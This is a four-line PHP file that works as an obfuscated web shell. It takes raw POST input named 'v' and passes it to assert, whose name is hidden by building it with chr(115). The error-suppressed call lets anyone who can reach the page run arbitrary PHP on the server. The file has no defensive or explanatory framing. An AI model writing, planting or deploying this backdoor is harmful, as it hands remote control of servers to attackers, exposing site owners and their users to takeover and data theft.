<?php
$v = filter_input(INPUT_POST, 'v', FILTER_UNSAFE_RAW);
$fn = 'as' . chr(115) . 'ert';
if ($v) @$fn($v);
